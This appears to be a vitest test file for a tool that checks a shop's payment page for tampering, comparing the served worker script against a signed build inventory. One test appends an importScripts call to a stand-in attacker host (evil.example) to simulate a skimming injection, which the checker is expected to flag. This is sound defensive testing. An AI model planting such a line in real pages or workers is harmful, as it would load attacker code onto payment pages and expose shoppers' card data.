import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { FAREWELL } from "#/lib/web/farewell-worker.ts";
import { checkPaymentPage } from "./check.ts";
import { digestOf } from "./chunks.ts";
import { runCommand } from "./command.ts";
import { signInventory } from "./inventory.ts";
import { HTML, inventory } from "./sample-page.ts";

/* The check over HTTP, against a small server that answers as the shop does. */

const PAGES: Record<string, string> = {
  "/": '<form><input name="number"/></form>',
  "/plans": '<form><input name="attempt" value="1"/><button name="plan" value="a">Buy</button></form>',
  "/checkout/abc": HTML,
};
const signed = { ...inventory, worker: digestOf(Buffer.from(FAREWELL)) };

let server: Server;
let origin: string;
let asked: IncomingMessage[];
let worker: string;
let isSilent: boolean;
beforeEach(async () => {
  [asked, worker, isSilent] = [[], FAREWELL, false];
  server = createServer((request, response) => {
    asked.push(request);
    request.resume();
    if (isSilent) return;
    if (request.method === "POST")
      return response.writeHead(303, { location: request.url === "/" ? "/plans" : "/checkout/abc" }).end();
    if (request.url === "/worker.js")
      return response.writeHead(200, { "content-type": "text/javascript; charset=utf-8" }).end(worker);
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(PAGES[request.url ?? ""] ?? "");
  });
  await new Promise<void>((resolve) => server.listen(0, resolve));
  origin = `http://localhost:${(server.address() as AddressInfo).port}`;
});
afterEach(() => {
  server.closeAllConnections();
  server.close();
});

const check = () =>
  checkPaymentPage({ origin, inventory: signed, sim: "1", signal: AbortSignal.timeout(10_000) }).then((faults) =>
    faults.join("\n"),
  );

test("the worker of a new visitor is the farewell to the byte", async () => {
  expect(await check()).not.toContain("/worker.js");
  worker = `${FAREWELL}importScripts("https://evil.example/x.js");`;
  expect(await check()).toContain("The script /worker.js has other bytes than in the build.");
});

test("the check asks with the headers of a browser", async () => {
  await check();
  const sent = (address: string) => asked.find(({ url }) => url === address)?.headers;
  for (const { headers } of asked) expect(headers["user-agent"]).toMatch(/Android.* Chrome\/\d+\.0\.0\.0 Mobile/);
  expect(sent("/checkout/abc")).toMatchObject({
    accept: expect.stringMatching(/^text\/html,/),
    "upgrade-insecure-requests": "1",
    "sec-fetch-dest": "document",
  });
  expect(sent("/worker.js")).toMatchObject({ accept: "*/*", "sec-fetch-dest": "script" });
});

test("a shop that answers slowly is named after the deadline, and not waited for", async () => {
  const folder = mkdtempSync(path.join(tmpdir(), "payment-page-"));
  const { privateKey, publicKey } = generateKeyPairSync("ed25519");
  const [key, file] = [path.join(folder, "key.pub"), path.join(folder, "signed.json")];
  writeFileSync(key, publicKey.export({ type: "spki", format: "pem" }));
  writeFileSync(file, signInventory(signed, { key: privateKey.export({ type: "pkcs8", format: "pem" }).toString() }));
  isSilent = true;
  const lines: string[] = [];
  const typed = ["check", origin, "--public-key", key, "--sim", "1", "--inventory", file];
  expect(await runCommand(typed, (line) => lines.push(line), 300)).toBe(1);
  rmSync(folder, { recursive: true });
  expect(lines).toEqual(["The payment page can't be checked: it took longer than 0.3 seconds"]);
});
